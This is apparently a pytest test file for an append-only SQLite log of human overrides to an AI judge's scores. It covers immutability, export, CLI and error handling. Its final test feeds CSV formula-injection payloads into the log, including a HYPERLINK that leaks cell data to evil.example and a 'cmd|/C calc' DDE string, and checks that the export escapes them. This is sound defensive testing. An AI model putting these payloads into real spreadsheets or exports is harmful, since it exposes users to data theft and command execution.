"""The override log: append-only in the database itself, exportable, and clear when it cannot be written."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from typer.testing import CliRunner

from agent.cli.override_cmd import app
from agent.contracts.report import JudgeInfo, Report, RoundAssessment
from agent.overrides import (
    COLUMNS,
    NewOverride,
    OverrideLog,
    OverrideLogError,
    effective_scores,
    effective_totals,
    to_csv,
    to_jsonl,
)

JUDGE = JudgeInfo(kind="embedded", model="embedded-cues-v1", rubric_version="rubric-abc")


def _report(report_id: str = "t-001") -> Report:
    scores = {"accuracy": 4, "evidence": 3, "tradeoffs": 3, "validation": 2, "communication": 4}
    return Report(
        id=report_id,
        judge=JUDGE,
        rounds=[RoundAssessment(round="capacity", scores=scores, total=16)],  # type: ignore[arg-type]
    )


def _new(**kw: object) -> NewOverride:
    base: dict[str, object] = {
        "transcript_id": "t-001",
        "round": "capacity",
        "dimension": "validation",
        "judge_score": 2,
        "human_score": 3,
        "reason": "named a rollback trigger the judge missed",
        "reviewer": "alice",
        "rubric_version": "rubric-abc",
        "judge_model": "embedded-cues-v1",
        "judge_kind": "embedded",
    }
    base.update(kw)
    return NewOverride.model_validate(base)


@pytest.fixture
def log(tmp_path: Path) -> OverrideLog:
    return OverrideLog(tmp_path / "overrides.sqlite", timeout_s=0.2)


def test_a_row_keeps_what_was_changed_by_whom_when_and_against_which_judge(log: OverrideLog) -> None:
    row = log.append(_new())
    [back] = log.rows()
    assert back == row
    assert (back.judge_score, back.human_score, back.reviewer) == (2, 3, "alice")
    assert back.rubric_version == "rubric-abc" and back.judge_model == "embedded-cues-v1"
    assert back.judge_kind == "embedded"
    assert back.created_at.endswith("+00:00")  # UTC, ISO 8601


@pytest.mark.parametrize(
    "sql",
    [
        "UPDATE overrides SET human_score = 5",
        "UPDATE overrides SET reason = 'rewritten' WHERE id = 1",
        "DELETE FROM overrides",
        "DELETE FROM overrides WHERE id = 1",
    ],
)
def test_the_database_refuses_update_and_delete(log: OverrideLog, sql: str) -> None:
    log.append(_new())
    with sqlite3.connect(log.path) as conn, pytest.raises(sqlite3.IntegrityError, match="append-only"):
        conn.execute(sql)
    [row] = log.rows()
    assert row.human_score == 3 and row.reason.startswith("named")


def test_blank_reason_or_reviewer_and_out_of_range_scores_are_refused() -> None:
    for bad in ({"reason": "  "}, {"reviewer": ""}, {"human_score": 6}, {"judge_score": 0}):
        with pytest.raises(ValueError):
            _new(**bad)


def test_the_latest_override_wins_and_sits_beside_the_judge_score(log: OverrideLog) -> None:
    log.append(_new(human_score=3))
    log.append(_new(human_score=4, reviewer="bob", reason="second look"))
    log.append(_new(transcript_id="t-other", human_score=1))
    eff = {(e.round, e.dimension): e for e in effective_scores(_report(), log.rows())}
    v = eff[("capacity", "validation")]
    assert (v.judge, v.effective) == (2, 4)
    assert v.override is not None and v.override.reviewer == "bob" and not v.stale
    a = eff[("capacity", "accuracy")]
    assert (a.judge, a.effective, a.override) == (4, 4, None)
    assert effective_totals(eff.values()) == {"capacity": (16, 18)}


def test_effective_scores_read_the_data_dirs_log_by_default(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("INTERVIEW_DATA_DIR", str(tmp_path))
    OverrideLog().append(_new(human_score=5))
    v = next(e for e in effective_scores(_report()) if e.dimension == "validation")
    assert (v.judge, v.effective) == (2, 5)


def test_an_override_against_another_rubric_version_is_marked_stale(log: OverrideLog) -> None:
    log.append(_new(rubric_version="rubric-old"))
    v = next(e for e in effective_scores(_report(), log.rows()) if e.dimension == "validation")
    assert v.effective == 3 and v.stale


def test_exports_hold_every_column(log: OverrideLog) -> None:
    log.append(_new())
    log.append(
        _new(dimension="accuracy", judge_score=4, human_score=2, reason='said "measured", was a guess')
    )
    rows = log.rows()
    parsed = list(csv.DictReader(io.StringIO(to_csv(rows))))
    assert [list(r) for r in parsed] == [list(COLUMNS)] * 2
    assert parsed[1]["reason"] == 'said "measured", was a guess' and parsed[1]["human_score"] == "2"
    lines = [json.loads(x) for x in to_jsonl(rows).splitlines()]
    assert [list(x) for x in lines] == [list(COLUMNS)] * 2
    assert lines[0]["judge_model"] == "embedded-cues-v1" and lines[0]["id"] == 1


def test_cli_list_and_export(log: OverrideLog, tmp_path: Path) -> None:
    log.append(_new())
    runner = CliRunner()
    res = runner.invoke(app, ["list", "--log", str(log.path), "--json"])
    assert res.exit_code == 0, res.output
    assert json.loads(res.stdout)["reviewer"] == "alice"
    res = runner.invoke(app, ["export", "--format", "csv", "--log", str(log.path)])
    assert res.exit_code == 0 and res.stdout.splitlines()[0] == ",".join(COLUMNS)
    out = tmp_path / "o.jsonl"
    res = runner.invoke(app, ["export", "--format", "jsonl", "--log", str(log.path), "--out", str(out)])
    assert res.exit_code == 0 and json.loads(out.read_text())["human_score"] == 3
    res = runner.invoke(app, ["export", "--format", "xml", "--log", str(log.path)])
    assert res.exit_code != 0


def test_an_absent_log_lists_nothing(tmp_path: Path) -> None:
    assert OverrideLog(tmp_path / "none.sqlite").rows() == []


def test_a_locked_log_says_so_and_loses_nothing(log: OverrideLog) -> None:
    log.append(_new())
    holder = sqlite3.connect(log.path, isolation_level=None)
    holder.execute("BEGIN EXCLUSIVE")
    try:
        with pytest.raises(OverrideLogError, match="locked by another process") as e:
            log.append(_new(human_score=5))
        assert "NOT saved" in str(e.value) and '"human_score": 5' in str(e.value)
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert [r.human_score for r in log.rows()] == [3]
    log.append(_new(human_score=5))  # free again: the retry works
    assert [r.human_score for r in log.rows()] == [3, 5]


@pytest.fixture
def read_only(log: OverrideLog) -> Iterator[OverrideLog]:
    """The log file made read-only: chmod for a normal user; root ignores modes, so `chattr +i`."""
    log.append(_new())
    if os.geteuid() == 0:
        if subprocess.run(["chattr", "+i", str(log.path)], capture_output=True).returncode != 0:
            pytest.skip("running as root and chattr +i is not supported on this filesystem")
        try:
            yield log
        finally:
            subprocess.run(["chattr", "-i", str(log.path)], check=True)
    else:
        log.path.chmod(0o444)
        try:
            yield log
        finally:
            log.path.chmod(0o644)


def test_a_read_only_log_says_so_still_reads_and_loses_nothing(read_only: OverrideLog) -> None:
    before = read_only.path.read_bytes()
    with pytest.raises(OverrideLogError, match="read-only") as e:
        read_only.append(_new(human_score=1))
    assert "NOT saved" in str(e.value)
    assert [r.human_score for r in read_only.rows()] == [3]
    assert read_only.path.read_bytes() == before


def test_a_log_in_a_missing_folder_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(OverrideLogError, match="cannot be opened"):
        OverrideLog(tmp_path / "no" / "such" / "overrides.sqlite").append(_new())


def test_a_file_that_is_not_sqlite_is_a_clear_error(tmp_path: Path) -> None:
    p = tmp_path / "overrides.sqlite"
    p.write_bytes(b"this is not a database" * 100)
    with pytest.raises(OverrideLogError, match="not a readable SQLite database"):
        OverrideLog(p).rows()


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_export_escapes_cells_a_spreadsheet_would_run_as_a_formula(log: OverrideLog, lead: str) -> None:
    formula = f'{lead}HYPERLINK("http://evil.example/?"&A1,"click")'
    log.append(_new(transcript_id=formula, judge_model=f"{lead}cmd|' /C calc'!A0"))
    if lead.strip():  # reason and reviewer are stripped of white space, so only the visible leads reach them
        log.append(_new(reason=formula, reviewer=f"{lead}SUM(1+1)"))
    parsed = list(csv.DictReader(io.StringIO(to_csv(log.rows()), newline="")))
    cells = [r[c] for r in parsed for c in ("transcript_id", "judge_model", "reason", "reviewer")]
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), cells
    assert parsed[0]["transcript_id"] == "'" + formula  # a single quote in front; the text itself is kept
    assert parsed[0]["judge_model"] == f"'{lead}cmd|' /C calc'!A0"
    if lead.strip():
        assert (parsed[1]["reason"], parsed[1]["reviewer"]) == ("'" + formula, f"'{lead}SUM(1+1)")
    assert parsed[0]["judge_score"] == "2" and parsed[0]["id"] == "1"  # numbers are left as they are
    assert json.loads(to_jsonl(log.rows()).splitlines()[0])["transcript_id"] == formula  # JSON is data: as is
